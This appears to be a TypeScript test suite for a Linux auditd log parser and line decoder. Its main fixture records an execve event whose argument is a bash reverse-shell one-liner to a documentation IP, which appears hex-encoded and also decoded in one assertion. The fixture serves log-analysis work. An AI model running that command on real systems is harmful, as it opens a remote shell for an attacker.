import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  AuditdLineDecoder,
  auditdDecoder,
  auditdParser,
  decodeSockaddr,
  parseAuditd,
  parseKeyValues,
  type AuditEventFields,
} from './auditd.js';
import { ParseError } from './record.js';
import { detectLineDecoder, detectParser, lineDecoderFor, parserFor } from './registry.js';

const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex').toUpperCase();

/** An execve event as a 2024 kernel writes it (own fixture: a reverse shell through bash). */
const EXECVE_EVENT = [
  'type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=5611 a1=5612 a2=5613 a3=0 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec_watch"',
  `type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}`,
  'type=CWD msg=audit(1700000000.123:4242): cwd="/tmp"',
  'type=PATH msg=audit(1700000000.123:4242): item=0 name="/usr/bin/bash" inode=1311 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
  'type=PATH msg=audit(1700000000.123:4242): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1400 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
  `type=PROCTITLE msg=audit(1700000000.123:4242): proctitle=${hex('bash\0-c\0bash -i')}`,
  'type=EOE msg=audit(1700000000.123:4242): ',
];

function fieldsOf(text: string): AuditEventFields {
  return parseAuditd(text).fields as AuditEventFields;
}

describe('auditd parser', () => {
  test('one event: id, time in epoch ms, records by type, PATH items as a list', () => {
    const f = fieldsOf(EXECVE_EVENT.join('\n'));
    assert.equal(f.id, '1700000000.123:4242');
    assert.equal(f.time, 1700000000123);
    assert.equal(f.timestamp, '1700000000.123');
    assert.equal(f.serial, 4242);
    assert.deepEqual(f.types, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE', 'EOE']);
    const syscall = f.SYSCALL as Record<string, unknown>;
    assert.equal(syscall.syscall, '59');
    assert.equal(syscall.exe, '/usr/bin/bash');
    assert.equal(syscall.key, 'exec_watch');
    assert.deepEqual((f.CWD as Record<string, unknown>).cwd, '/tmp');
    const paths = f.PATH as Record<string, unknown>[];
    assert.equal(paths.length, 2);
    assert.equal(paths[1]!.name, '/lib64/ld-linux-x86-64.so.2');
    assert.equal(f.errors, undefined);
  });

  test('EXECVE arguments: quoted and hex-encoded, in order, with argc', () => {
    const f = fieldsOf(EXECVE_EVENT.join('\n'));
    assert.deepEqual(f.EXECVE, {
      argc: '3',
      argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    });
  });

  test('EXECVE split arguments (a1_len, a1[0], a1[1]...) over several lines are joined', () => {
    const long = 'x'.repeat(20) + ' y';
    const text = [
      'type=SYSCALL msg=audit(1700000001.000:5): arch=c000003e syscall=59 success=yes exit=0 pid=1 ppid=0 auid=0 uid=0',
      `type=EXECVE msg=audit(1700000001.000:5): argc=3 a0="/bin/echo" a1_len=${long.length} a1[0]=${hex(long.slice(0, 10))}`,
      `type=EXECVE msg=audit(1700000001.000:5): a1[1]=${hex(long.slice(10))} a2="end"`,
    ].join('\n');
    assert.deepEqual(fieldsOf(text).EXECVE, { argc: '3', argv: ['/bin/echo', long, 'end'] });
  });

  test('EXECVE with a lost argument keeps its place; a huge argc allocates nothing', () => {
    const text =
      'type=EXECVE msg=audit(1700000001.000:6): argc=3 a0="ls" a2="-l"\n' +
      'type=EXECVE msg=audit(1700000001.000:6): argc=999999999';
    assert.deepEqual((fieldsOf(text).EXECVE as { argv: string[] }).argv.slice(0, 3), ['ls', '', '-l']);
    assert.ok((fieldsOf(text).EXECVE as { argv: string[] }).argv.length <= 3 + 64);
  });

  test('PROCTITLE: hex decoded, NULs become spaces; quoted values kept', () => {
    assert.equal(
      (fieldsOf(EXECVE_EVENT.join('\n')).PROCTITLE as Record<string, unknown>).proctitle,
      'bash -c bash -i',
    );
    const quoted = fieldsOf('type=PROCTITLE msg=audit(1451781471.394:194433): proctitle="bash"');
    assert.equal((quoted.PROCTITLE as Record<string, unknown>).proctitle, 'bash');
  });

  test('hex-encoded names, cwd, acct and multiple rule keys are decoded; (null) is null', () => {
    const text = [
      `type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=2 success=yes exit=3 key=${hex('k1\x01k2')} comm=${hex('my prog')}`,
      `type=CWD msg=audit(1.5:9): cwd=${hex('/tmp/a b')}`,
      `type=PATH msg=audit(1.5:9): item=0 name=${hex('/tmp/a b/x y')} nametype=CREATE`,
    ].join('\n');
    const f = fieldsOf(text);
    assert.equal((f.SYSCALL as Record<string, unknown>).key, 'k1,k2');
    assert.equal((f.SYSCALL as Record<string, unknown>).comm, 'my prog');
    assert.equal((f.CWD as Record<string, unknown>).cwd, '/tmp/a b');
    assert.equal((f.PATH as Record<string, unknown>[])[0]!.name, '/tmp/a b/x y');
    const nullKey = fieldsOf('type=SYSCALL msg=audit(1.5:10): syscall=0 key=(null)');
    assert.equal((nullKey.SYSCALL as Record<string, unknown>).key, null);
    // A field audit never encodes stays as written even when it looks like hex.
    assert.equal((nullKey.SYSCALL as Record<string, unknown>).syscall, '0');
  });

  test('user-space records: the nested msg=... is parsed, outer fields kept', () => {
    const f = fieldsOf(
      'type=USER_LOGIN msg=audit(1492896301.818:19955): pid=12635 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=179.38.151.221 terminal=sshd res=failed\'',
    );
    const rec = f.USER_LOGIN as Record<string, unknown>;
    assert.equal(rec.pid, '12635');
    assert.deepEqual(rec.msg, {
      op: 'login',
      acct: '(invalid user)',
      exe: '/usr/sbin/sshd',
      hostname: '?',
      addr: '179.38.151.221',
      terminal: 'sshd',
      res: 'failed',
    });
  });

  test('old PAM wording: bare words and (hostname=?, ...) parentheses', () => {
    const kv = parseKeyValues(
      'user pid=13015 uid=0 msg=\'PAM: session open acct=root : exe="/usr/sbin/crond" (hostname=?, addr=?, terminal=cron res=success)\'',
    );
    assert.equal(kv.text, 'user');
    const msg = kv.msg as Record<string, unknown>;
    assert.equal(msg.acct, 'root');
    assert.equal(msg.hostname, '?');
    assert.equal(msg.terminal, 'cron');
    assert.equal(msg.res, 'success');
  });

  test('ENRICHED format: interpreted upper-case fields after \\x1d, SADDR braces', () => {
    const f = fieldsOf(
      [
        'type=SYSCALL msg=audit(1626611363.720:348501): arch=c000003e syscall=59 success=yes exit=0 auid=1000 uid=0 comm="perl" subj==unconfined key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="user" UID="root"',
        'type=SOCKADDR msg=audit(1626611363.720:348501): saddr=100000000000000000000000\x1dSADDR={ fam=netlink nlnk-fam=16 nlnk-pid=0 }',
      ].join('\n'),
    );
    const s = f.SYSCALL as Record<string, unknown>;
    assert.equal(s.SYSCALL, 'execve');
    assert.equal(s.AUID, 'user');
    assert.equal(s.UID, 'root');
    assert.equal(s.subj, '=unconfined');
    assert.equal(s.key, null);
    const sa = f.SOCKADDR as Record<string, unknown>;
    assert.deepEqual(sa.SADDR, { fam: 'netlink', 'nlnk-fam': '16', 'nlnk-pid': '0' });
    assert.equal(sa.family, 'netlink');
  });

  test('node= prefix names the host', () => {
    const f = fieldsOf('node=web01 type=CWD msg=audit(1615114232.375:15558): cwd="/home/user/tmp"');
    assert.equal(f.node, 'web01');
    assert.equal((f.CWD as Record<string, unknown>).cwd, '/home/user/tmp');
  });

  test('SOCKADDR: IPv4, IPv6, unix path, abstract socket, netlink', () => {
    assert.deepEqual(decodeSockaddr('02002BCB7F0000010000000000000000'), {
      family: 'inet',
      port: 11211,
      addr: '127.0.0.1',
    });
    assert.deepEqual(decodeSockaddr('0A002BCB000000000000000000000000000000000000000100000000'), {
      family: 'inet6',
      port: 11211,
      addr: '::1',
    });
    assert.deepEqual(
      decodeSockaddr('0A0001BB00000000FE80000000000000000000000000000100000000')?.addr,
      'fe80::1',
    );
    assert.deepEqual(
      decodeSockaddr('0A0001BB0000000000000000000000000000FFFFC0000201')?.addr,
      '::ffff:192.0.2.1',
    );
    assert.deepEqual(decodeSockaddr(`0100${hex('/run/x.sock')}00`), { family: 'local', path: '/run/x.sock' });
    assert.deepEqual(decodeSockaddr(`010000${hex('abstract')}`), { family: 'local', path: '@abstract' });
    assert.deepEqual(decodeSockaddr('100000000000000000000000'), { family: 'netlink', pid: 0 });
    assert.equal(decodeSockaddr('zz'), undefined);
  });

  test('SOCKADDR family in the byte order of the SYSCALL arch (big-endian ppc64)', () => {
    const f = fieldsOf(
      [
        'type=SYSCALL msg=audit(1708028025.033:10): arch=80000015 syscall=327 success=yes exit=0 pid=2650',
        'type=SOCKADDR msg=audit(1708028025.033:10): saddr=0002D903000000000000000000000000',
      ].join('\n'),
    );
    const sa = f.SOCKADDR as Record<string, unknown>;
    assert.equal(sa.family, 'inet');
    assert.equal(sa.addr, '0.0.0.0');
    assert.equal(sa.port, 55555);
  });

  test('a line of another event is kept as an error, not merged', () => {
    const f = fieldsOf(`${EXECVE_EVENT[0]}\ntype=CWD msg=audit(1700000000.123:4243): cwd="/"`);
    assert.equal(f.CWD, undefined);
    assert.equal(f.errors?.length, 1);
    assert.match(f.errors![0]!.reason, /another event/);
    assert.equal(f.errors![0]!.line, 2);
  });

  test('a line without an event id is kept as an event with the error, not rejected', () => {
    const f = fieldsOf('type=UNKNOWN[1329] msg=?');
    assert.deepEqual(f.types, ['UNKNOWN[1329]']);
    assert.equal(f.time, undefined);
    assert.match(f.errors![0]!.reason, /no event id/);
    const junk = fieldsOf('hello world');
    assert.deepEqual(junk.types, []);
    assert.match(junk.errors![0]!.reason, /not an audit record line/);
  });

  test('empty text is a ParseError', () => {
    assert.throws(
      () => parseAuditd('  \n '),
      (e: unknown) => e instanceof ParseError && e.reason === 'empty',
    );
  });

  test('a header without the colon after audit(...) (DAEMON_CONFIG) is read', () => {
    const f = fieldsOf(
      'type=DAEMON_CONFIG msg=audit(1490239800.477:34) config changed, auid=0 pid=1512 subj=system_u:system_r:unconfined_service_t:s0 res=success',
    );
    assert.equal(f.id, '1490239800.477:34');
    assert.equal((f.DAEMON_CONFIG as Record<string, unknown>).res, 'success');
  });

  test('registered: parser by name and by sniffing; decoder by name and by sniffing', () => {
    assert.equal(parserFor('auditd'), auditdParser);
    assert.equal(detectParser(EXECVE_EVENT[0]!), auditdParser);
    assert.equal(detectParser('node=h type=EOE msg=audit(1.2:3): '), auditdParser);
    assert.equal(lineDecoderFor('auditd'), auditdDecoder);
    assert.equal(detectLineDecoder(EXECVE_EVENT[0]!), auditdDecoder);
    assert.equal(detectLineDecoder('type=SYSCALL but not audit'), undefined);
  });
});

describe('auditd line decoder', () => {
  const push = (d: AuditdLineDecoder, lines: string[]) =>
    lines.flatMap((line, i) => d.push(line, `line ${i + 1}`).records);

  test('an event is emitted at its EOE, whole, at the position of its first line', () => {
    const d = new AuditdLineDecoder();
    const out = push(d, EXECVE_EVENT);
    assert.equal(out.length, 1);
    assert.equal(out[0]!.text, EXECVE_EVENT.join('\n'));
    assert.equal(out[0]!.position, 'line 1');
    assert.equal(out[0]!.format, 'auditd');
    assert.equal(d.pending(), false);
  });

  test('interleaved events without EOE are grouped by serial and emitted in order', () => {
    const lines = [
      'type=SYSCALL msg=audit(1451781471.394:194435): syscall=23 pid=1281',
      'type=SYSCALL msg=audit(1451781471.394:194433): syscall=13 pid=1321',
      'type=PROCTITLE msg=audit(1451781471.394:194433): proctitle="bash"',
      'type=PROCTITLE msg=audit(1451781471.394:194435): proctitle=737368643A206275726E205B707269765D',
    ];
    const d = new AuditdLineDecoder();
    assert.deepEqual(push(d, lines), []);
    assert.equal(d.pending(), true);
    const out = d.end();
    assert.deepEqual(
      out.map((r) => r.text),
      [`${lines[0]}\n${lines[3]}`, `${lines[1]}\n${lines[2]}`],
    );
    assert.equal(
      (parseAuditd(out[0]!.text).fields.PROCTITLE as Record<string, unknown>).proctitle,
      'sshd: burn [priv]',
    );
    assert.equal(d.pending(), false);
  });

  test('the window: the oldest open event leaves when more than the window are open', () => {
    const d = new AuditdLineDecoder(2);
    const line = (serial: number) => `type=USER_ACCT msg=audit(1.000:${serial}): pid=1 res=success`;
    assert.deepEqual(push(d, [line(1), line(2)]), []);
    const out = d.push(line(3), 'p3').records;
    assert.deepEqual(
      out.map((r) => r.text),
      [line(1)],
    );
    assert.equal(d.end().length, 2);
  });

  test('a complete event behind an open one waits for it (order is kept)', () => {
    const d = new AuditdLineDecoder(4);
    const a = 'type=USER_ACCT msg=audit(1.000:1): pid=1 res=success';
    const b = ['type=SYSCALL msg=audit(1.000:2): syscall=1', 'type=EOE msg=audit(1.000:2): '];
    assert.deepEqual(push(d, [a, ...b]), []);
    assert.deepEqual(
      d.end().map((r) => r.text),
      [a, b.join('\n')],
    );
  });

  test('same serial on two nodes are two events', () => {
    const d = new AuditdLineDecoder();
    push(d, ['node=a type=CWD msg=audit(1.000:7): cwd="/"', 'node=b type=CWD msg=audit(1.000:7): cwd="/"']);
    assert.equal(d.end().length, 2);
  });

  test('comment lines are reported as issues; other junk is emitted as its own record, in order', () => {
    const d = new AuditdLineDecoder();
    const first = d.push('type=CWD msg=audit(1.000:1): cwd="/"', 'l1');
    assert.deepEqual(first.records, []);
    const comment = d.push('# a note', 'l2');
    assert.equal(comment.issues?.[0]?.reason, 'comment');
    assert.equal(comment.issues?.[0]?.text, '# a note');
    const junk = d.push('garbage here', 'l3').records;
    assert.deepEqual(
      junk.map((r) => [r.text, r.position]),
      [
        ['type=CWD msg=audit(1.000:1): cwd="/"', 'l1'],
        ['garbage here', 'l3'],
      ],
    );
  });

  test('an event with too many lines is cut rather than held without bound', () => {
    const d = new AuditdLineDecoder();
    const lines = Array.from({ length: 5000 }, (_, i) => `type=PATH msg=audit(1.000:1): item=${i} name="/x"`);
    const out = push(d, lines).concat(d.end());
    assert.ok(out.length >= 2);
    assert.equal(
      out.reduce((n, r) => n + r.text.split('\n').length, 0),
      5000,
    );
  });

  test('indented lines (audit lines quoted in other files) are read', () => {
    const d = new AuditdLineDecoder();
    const out = push(d, ['    type=CWD msg=audit(1.000:1): cwd="/"', '    type=EOE msg=audit(1.000:1): ']);
    assert.equal(out.length, 1);
    assert.equal((parseAuditd(out[0]!.text).fields.CWD as Record<string, unknown>).cwd, '/');
  });
});

test('auditd decoder: an EOE after its event left the window is an issue, not a new event', () => {
  const d = new AuditdLineDecoder(1);
  const a = 'type=SYSCALL msg=audit(1.000:1): syscall=1';
  const b = 'type=SYSCALL msg=audit(1.000:2): syscall=1';
  assert.deepEqual(d.push(a, 'l1').records, []);
  assert.equal(d.push(b, 'l2').records[0]?.text, a);
  const late = d.push('type=EOE msg=audit(1.000:1): ', 'l3');
  assert.deepEqual(late.records, []);
  assert.equal(late.issues?.[0]?.reason, 'late_eoe');
  assert.equal(d.end()[0]?.text, b);
});
